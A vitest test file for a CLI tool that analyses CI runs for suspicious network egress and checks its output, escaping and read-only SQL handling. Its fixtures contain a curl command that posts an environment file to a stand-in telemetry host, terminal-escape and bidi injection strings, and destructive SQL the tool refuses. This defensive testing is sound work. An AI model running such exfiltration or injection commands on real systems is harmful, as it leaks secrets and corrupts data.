/* eslint-disable @typescript-eslint/no-explicit-any -- the child's JSON output is checked field by field */
/**
 * The `runlens` command as a real child process (`node bin/runlens.cjs …`, built first) on real case files:
 * exit codes, JSON shapes, escaping of hostile text, `sql` read-only refusal, and — with the importer present —
 * `import` (--json, --force, partial imports) and bundles given where a case is expected.
 */
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync, appendFileSync, readdirSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildCase, HOSTILE } from '../unit/queries-fixture';
import { buildCli, runlens, writeMiniBundle } from './cli-helpers';

const TIME = /^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{9}Z$/;
/** Raw control characters a terminal would act on (newline aside). */
const RAW_CONTROL = /[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

let dir: string;
let kase: string;
let noPolicy: string;
const sha = (p: string) => createHash('sha256').update(readFileSync(p)).digest('hex');

beforeAll(async () => {
  await buildCli();
  dir = mkdtempSync(path.join(os.tmpdir(), 'runlens-cli-'));
  kase = buildCase(dir);
  mkdirSync(path.join(dir, 'np'));
  noPolicy = buildCase(path.join(dir, 'np'), { policy: false });
});
afterAll(() => rmSync(dir, { recursive: true, force: true }));

function json(args: string[], env: Record<string, string> = {}): any {
  const r = runlens([...args, '--json'], env);
  expect(r.stderr, r.stderr).not.toMatch(/\n\s+at /); // never a stack trace
  expect(r.code, r.stderr).toBe(0);
  return JSON.parse(r.stdout); // exactly one JSON document (JSON.parse rejects anything after it)
}

describe('usage and exit codes', () => {
  it('help is exit 0; no command, unknown command, unknown flag, missing argument are exit 2', () => {
    expect(runlens(['--help'])).toMatchObject({ code: 0 });
    expect(runlens(['--help']).stdout).toContain('runlens <command>');
    expect(runlens(['explain', '--help']).stdout).toContain('--endpoint');
    for (const args of [[], ['frobnicate'], ['steps', kase, '--nope'], ['steps'], ['explain', kase], ['explain', kase, '--endpoint'],
      ['explain', kase, '--endpoint', 'x.example', '--limit', 'ten'], ['explain', kase, '--endpoint', 'https://x.example/'],
      ['sql', kase], ['import'], ['import', kase, '--date', '14/10/2026'], ['import', kase, '--offset', 'net=soon']]) {
      const r = runlens(args);
      expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBe(2);
      expect(r.stderr).toMatch(/^runlens: /);
      expect(r.stderr).not.toMatch(/\n\s+at /);
    }
  });

  it('bad input is exit 1 with one line naming the problem, never a stack trace', () => {
    const missing = runlens(['steps', path.join(dir, 'no-such-case.runlens')]);
    expect(missing.code).toBe(1);
    expect(missing.stderr).toBe(`runlens: no such file or folder: ${path.join(dir, 'no-such-case.runlens')}\n`);
    const unknownCall = runlens(['explain', kase, '--call', '999999']);
    expect(unknownCall).toMatchObject({ code: 1, stderr: 'runlens: no network call with id 999999\n' });
    // A SQLite file that is not a case.
    const other = path.join(dir, 'other.sqlite');
    writeFileSync(other, Buffer.concat([Buffer.from('SQLite format 3\0', 'latin1'), Buffer.alloc(4096 - 16)]));
    const r = runlens(['findings', other]);
    expect(r.code).toBe(1);
    expect(r.stderr.split('\n').filter(Boolean)).toHaveLength(1);
    expect(r.stderr).toContain(other);
    // A damaged case: cut in half, and one with its pages overwritten.
    const bytes = readFileSync(kase);
    const cut = path.join(dir, 'cut.runlens');
    writeFileSync(cut, bytes.subarray(0, bytes.length >> 1));
    const garbled = path.join(dir, 'garbled.runlens');
    const g = Buffer.from(bytes);
    for (let i = 4096; i < g.length; i += 7) g[i] = 0x5a;
    writeFileSync(garbled, g);
    for (const [f, cmd] of [[cut, 'steps'], [garbled, 'findings'], [garbled, 'explain']] as const) {
      const d = runlens(cmd === 'explain' ? [cmd, f, '--endpoint', 'github.com'] : [cmd, f]);
      expect(d.code, `${cmd} ${f}`).toBe(1);
      expect(d.stderr).toMatch(/^runlens: .*malformed/);
      expect(d.stderr.split('\n').filter(Boolean)).toHaveLength(1);
    }
  });

  it('an error message quoting hostile input is escaped too', () => {
    const r = runlens(['steps', path.join(dir, 'x\x1b]0;owned\x07\u202e')]);
    expect(r.code).toBe(1);
    expect(r.stderr).not.toMatch(RAW_CONTROL);
    expect(r.stderr).toContain('x\\x1b]0;owned\\x07\\u202e');
  });
});

describe('steps', () => {
  it('--json: {steps:[{job, number, name, uses, started_at, completed_at, log_lines}]}', () => {
    const out = json(['steps', kase]);
    expect(Object.keys(out)).toEqual(['steps']);
    expect(out.steps).toHaveLength(3);
    for (const s of out.steps) {
      for (const k of ['job', 'number', 'name', 'uses', 'started_at', 'completed_at', 'log_lines']) expect(s).toHaveProperty(k);
      expect(s.started_at).toMatch(TIME);
    }
    expect(out.steps.map((s: any) => [s.job, s.number, s.log_lines])).toEqual([['test', 1, 1], ['test', 2, 1], ['test', 3, 9]]);
    expect(out.steps[1].uses).toBe('actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683');
  });
  it('human: an aligned table', () => {
    const r = runlens(['steps', kase]);
    expect(r.code).toBe(0);
    const lines = r.stdout.trimEnd().split('\n');
    expect(lines[0]).toMatch(/^#\s+name\s+uses\s+started\s+completed\s+result\s+log lines$/);
    expect(lines).toHaveLength(5);
    const col = lines[0]!.indexOf('started');
    for (const l of lines.slice(2)) expect(l.slice(col, col + 30)).toMatch(TIME);
  });
});

describe('findings', () => {
  it('--json: findings with processes, steps, and the policy', () => {
    const out = json(['findings', kase]);
    expect(out.policy).toEqual({ egress_policy: 'audit', allowed_endpoints: ['github.com:443', '*.example.org:443'] });
    expect(out.note).toBeUndefined();
    const f = out.findings[0];
    for (const k of ['kind', 'kinds', 'severity', 'endpoint', 'calls', 'first_seen', 'processes', 'steps']) expect(f).toHaveProperty(k);
    expect(f).toMatchObject({ kind: 'anomalous-endpoint', endpoint: 'telemetry.example.net:443', calls: 1, first_seen: '2026-10-14T09:12:23.100000417Z' });
    expect(f.processes).toEqual([{ id: 4, pid: 4721, exe: '/usr/bin/curl' }]);
    expect(f.steps).toEqual([{ id: 3, number: 3, name: 'Run npm test' }]);
    expect(out.findings.map((x: any) => x.endpoint)).toContain('198.51.100.2:443');
  });
  it('no policy: policy null, a note in JSON and in the human output', () => {
    const out = json(['findings', noPolicy]);
    expect(out.policy).toBeNull();
    expect(out.note).toMatch(/no egress policy was given/);
    const r = runlens(['findings', noPolicy]);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^Note: no egress policy was given/);
  });
});

describe('explain', () => {
  it('--json: the required shape for each call', () => {
    const out = json(['explain', kase, '--endpoint', 'telemetry.example.net']);
    expect(out.endpoint).toBe('telemetry.example.net');
    expect(out.calls).toHaveLength(1);
    const c = out.calls[0];
    for (const k of ['ts', 'domain', 'ip', 'port', 'status', 'http', 'pid', 'process_name', 'process', 'ancestors', 'step', 'running_step', 'log_context', 'log_mentions']) {
      expect(c).toHaveProperty(k);
    }
    expect(c).toMatchObject({ ts: '2026-10-14T09:12:23.100000417Z', domain: 'telemetry.example.net', ip: '198.51.100.23', port: 443, status: 'allowed', pid: 4721, process_name: 'curl' });
    expect(c.http).toEqual({ method: 'POST', host: 'telemetry.example.net', path: '/v2/collect', status_code: 202 });
    expect(c.process).toMatchObject({ pid: 4721, exe: '/usr/bin/curl', cwd: '/home/runner/work/web/web', start: '2026-10-14T09:12:23.100000000Z', end: '2026-10-14T09:12:24.100000000Z' });
    expect(c.process.args).toEqual(['curl', '-sS', '-d', '@/tmp/env', 'https://telemetry.example.net/v2/collect', HOSTILE]); // exact, in JSON
    expect(c.ancestors.map((a: any) => [a.pid, a.exe])).toEqual([[300, '/usr/local/bin/node'], [200, '/usr/bin/bash'], [100, '/home/runner/actions-runner/bin/Runner.Worker']]);
    for (const a of c.ancestors) expect(Array.isArray(a.args)).toBe(true);
    expect(c.step).toMatchObject({ number: 3, name: 'Run npm test', uses: null });
    expect(c.running_step).toMatchObject({ number: 3 });
    expect(c.log_context.map((l: any) => l.text)).toEqual([
      'POSTing env to telemetry.example.net now', 'curl: connected to 198.51.100.23 port 443', 'fallback host 198.51.100.2 is configured',
    ]);
    for (const l of [...c.log_context, ...c.log_mentions]) {
      expect(l.ts).toMatch(TIME);
      expect(l.step).toBe(3);
      expect(l.text).not.toMatch(/\x1b/); // plain text, no ANSI
    }
    expect(c.log_mentions.map((l: any) => l.text)).toEqual([
      'POSTing env to telemetry.example.net now', 'curl: connected to 198.51.100.23 port 443', 'TELEMETRY.EXAMPLE.NET. replied 202',
    ]);
  });

  it('a background process: step (its starter) differs from running step; an IP is matched as a whole token', () => {
    const c = json(['explain', kase, '--endpoint', '198.51.100.2:443']).calls;
    expect(c).toHaveLength(1);
    expect(c[0].step).toMatchObject({ number: 2, uses: 'actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683' });
    expect(c[0].running_step).toMatchObject({ number: 3 });
    expect(c[0].log_mentions.map((l: any) => l.text)).toEqual(['fallback host 198.51.100.2 is configured']);
  });

  it('--limit caps every list, --window sets the context, an unseen endpoint is an empty answer', () => {
    const all = json(['explain', kase, '--endpoint', 'github.com']);
    expect(all.calls.map((c: any) => c.port)).toEqual([443, 80]);
    const one = json(['explain', kase, '--endpoint', 'github.com', '--limit', '1']);
    expect(one.calls).toHaveLength(1);
    expect(one.total).toBe(2);
    const wide = json(['explain', kase, '--endpoint', 'telemetry.example.net', '--window', '11', '--limit', '2']);
    expect(wide.calls[0].log_context).toHaveLength(2);
    expect(json(['explain', kase, '--endpoint', 'telemetry.example.net', '--window', '11']).calls[0].log_context).toHaveLength(6);
    expect(json(['explain', kase, '--endpoint', 'nothing.example'])).toEqual({ endpoint: 'nothing.example', total: 0, calls: [], mentioned_in_log: [] });
    const none = runlens(['explain', kase, '--endpoint', 'nothing.example']);
    expect(none).toMatchObject({ code: 0 });
    expect(none.stdout).toContain('No calls to nothing.example');
  });

  it('human output escapes control characters and bidi overrides from the evidence', () => {
    const r = runlens(['explain', kase, '--endpoint', 'telemetry.example.net']);
    expect(r.code).toBe(0);
    expect(r.stdout).not.toMatch(RAW_CONTROL);
    expect(r.stdout).toContain("'evil\\x1b[2J\\rX\\u009b31m\\u202egnp.exe'");
    expect(r.stdout).toContain('chain       Runner.Worker (100) → bash (200) → node (300) → ');
    // answer first: the answer and the chain come before the context
    expect(r.stdout.indexOf('  answer ')).toBeLessThan(r.stdout.indexOf('-- context --'));
    expect(r.stdout.indexOf('  chain ')).toBeLessThan(r.stdout.indexOf('  log context'));
    expect(r.stdout).toContain('◆ the call');
    const blocked = runlens(['explain', kase, '--endpoint', 'evil.example.com']); // its log context holds the hostile line
    expect(blocked.stdout).toContain('step output: evil\\x1b[2J\\rX\\u009b31m\\u202egnp.exe');
    expect(blocked.stdout).not.toMatch(RAW_CONTROL);
  });
});

describe('sql', () => {
  it('runs one SELECT on a read-only connection; large integers stay exact', () => {
    const out = json(['sql', kase, 'SELECT id, ts, endpoint FROM network WHERE id = 1']);
    expect(out).toEqual({ columns: ['id', 'ts', 'endpoint'], rows: [[1, '1791969143100000417', 'telemetry.example.net:443']] });
    const r = runlens(['sql', kase, 'WITH c AS (SELECT count(*) AS n FROM network) SELECT n FROM c']);
    expect(r.code).toBe(0);
    expect(r.stdout).toMatch(/^n\n-\n5\n\(1 row\)\n$/);
    expect(runlens(['sql', kase, 'EXPLAIN QUERY PLAN SELECT * FROM network WHERE ts > 0']).stdout).toContain('network_ts');
  });

  it('refuses anything that is not a single read-only query, and the case is unchanged', () => {
    const before = sha(kase);
    for (const q of [
      'DELETE FROM network',
      'UPDATE network SET domain = NULL',
      'WITH x AS (SELECT 1) DELETE FROM network',
      'SELECT 1; DELETE FROM network',
      "ATTACH DATABASE '/tmp/x.db' AS x",
      'PRAGMA user_version = 0',
      'DROP TABLE network',
      'INSERT INTO meta VALUES (1, 2)',
      '/* SELECT */ CREATE TABLE t(x)',
    ]) {
      const r = runlens(['sql', kase, q]);
      expect(r.code, q).toBe(1);
      expect(r.stderr, q).toMatch(/^runlens: sql: /);
      expect(r.stdout, q).toBe('');
    }
    expect(runlens(['sql', kase, 'SELECT nope FROM network']).stderr).toBe('runlens: sql: no such column: nope\n');
    expect(sha(kase)).toBe(before);
    expect(json(['sql', kase, 'SELECT count(*) FROM network']).rows).toEqual([[5]]);
  });
});

describe('import', () => {
  it('--case: an existing file is not replaced without --force; a non-case file never', () => {
    const r = runlens(['import', path.join(dir, 'np'), '--case', kase]);
    expect(r.code).toBe(1);
    expect(r.stderr).toMatch(/already exists.*--force/);
    const precious = path.join(os.tmpdir(), `runlens-precious-${process.pid}.txt`);
    writeFileSync(precious, 'notes');
    try {
      const f = runlens(['import', path.join(dir, 'np'), '--case', precious, '--force']);
      expect(f.code).toBe(1);
      expect(f.stderr).toContain('is not a case file');
      expect(readFileSync(precious, 'utf8')).toBe('notes');
    } finally {
      rmSync(precious, { force: true });
    }
  });

  it('refuses to write the case into the evidence', () => {
    const ev = path.join(dir, 'evidence');
    mkdirSync(ev, { recursive: true });
    const r = runlens(['import', ev, '--case', path.join(ev, 'case.runlens')]);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain('refusing to write the case into the evidence');
    expect(readdirSync(ev)).toEqual([]);
  });

  describe('with bundles (the importer)', () => {
    it('--json summary; exists → exit 1; --force replaces', () => {
      const bundle = writeMiniBundle(path.join(dir, 'imp'));
      const target = path.join(dir, 'imp', 'mini.runlens');
      const s = json(['import', bundle, '--case', target]);
      expect(Object.keys(s).sort()).toEqual(['case', 'counts', 'files', 'inputs', 'warnings']);
      // per file read: lines in = lines stored + lines skipped
      for (const f of s.files as { lines: number; lines_stored: number; lines_skipped: number }[]) expect(f.lines_stored + f.lines_skipped).toBe(f.lines);
      expect(s.case).toBe(target);
      expect(s.inputs).toHaveLength(1);
      expect(s.inputs[0]).toMatchObject({ path: bundle });
      expect(s.inputs[0].sha256).toMatch(/^[0-9a-f]{64}$/);
      expect(s.counts).toMatchObject({ network: 3, dns: 1, steps: 3, files: 0 });
      expect(Object.keys(s.counts).sort()).toEqual(['dns', 'files', 'log_lines', 'network', 'process_events', 'processes', 'steps']);
      for (const w of s.warnings) expect(Object.keys(w).sort()).toEqual(['file', 'line', 'message']);

      const again = runlens(['import', bundle, '--case', target, '--json']);
      expect(again.code).toBe(1);
      expect(again.stdout).toBe('');
      expect(again.stderr).toMatch(/already exists/);

      const mtime = statSync(target).mtimeMs;
      const forced = json(['import', bundle, '--case', target, '--force']);
      expect(forced.counts).toEqual(s.counts);
      expect(statSync(target).mtimeMs).toBeGreaterThanOrEqual(mtime);

      // The imported case answers the questions.
      const c = json(['explain', target, '--endpoint', '198.51.100.23']).calls[0];
      expect(c).toMatchObject({ domain: 'telemetry.exfil.example', pid: 4721, process_name: 'curl' });
      expect(c.ancestors.map((a: any) => a.pid)).toEqual([300, 200, 100]);
      expect(c.step).toMatchObject({ number: 3, name: 'Run npm test' });
      expect(c.log_mentions.map((l: any) => l.text)).toEqual(['posting results to telemetry.exfil.example', 'connected to 198.51.100.23 port 443']);
    });

    it('a partial import (bad records) is exit 0 with warnings naming file and line', () => {
      const bundle = writeMiniBundle(path.join(dir, 'partial'));
      appendFileSync(path.join(bundle, 'network.jsonl'), '{"ts":"2026-10-14T09:12:40","ip":"192.0.2.1","port":443}\n{not json\n');
      const s = json(['import', bundle, '--case', path.join(dir, 'partial', 'p.runlens')]);
      expect(s.counts.network).toBe(3);
      const net = s.warnings.filter((w: any) => String(w.file).endsWith('network.jsonl'));
      expect(net.map((w: any) => w.line)).toEqual([4, 5]);
      const human = runlens(['import', bundle, '--case', path.join(dir, 'partial', 'p2.runlens')]);
      expect(human.code).toBe(0);
      expect(human.stdout).toMatch(/network\.jsonl:4: /);
    });

    it('nothing recognised is exit 1', () => {
      const junk = path.join(dir, 'junk');
      mkdirSync(junk, { recursive: true });
      writeFileSync(path.join(junk, 'notes.bin'), Buffer.from([0, 1, 2, 3, 255, 254]));
      const r = runlens(['import', junk, '--case', path.join(dir, 'junk.runlens')]);
      expect(r.code).toBe(1);
      expect(r.stderr.trim().split('\n')).toHaveLength(1);
    });
  });

  describe('a bundle where a case is expected (default case location)', () => {
    it('imports once into RUNLENS_DATA_DIR, then reuses the case', () => {
      const data = path.join(dir, 'data');
      const env = { RUNLENS_DATA_DIR: data };
      const bundle = writeMiniBundle(path.join(dir, 'auto'));
      const first = runlens(['steps', bundle, '--json'], env);
      expect(first.code, first.stderr).toBe(0);
      expect(JSON.parse(first.stdout).steps).toHaveLength(3);
      const cases = readdirSync(data, { recursive: true }).map(String).filter((f) => f.endsWith('.runlens'));
      expect(cases).toHaveLength(1);
      const file = path.join(data, cases[0]!);
      const mtime = statSync(file).mtimeMs;
      const f = runlens(['findings', bundle, '--json'], env);
      expect(JSON.parse(f.stdout).findings.map((x: any) => x.endpoint)).toContain('telemetry.exfil.example:443');
      expect(statSync(file).mtimeMs).toBe(mtime);
      const imp = json(['import', bundle], env);
      expect(imp.case).toBe(file);
    });
  });
});
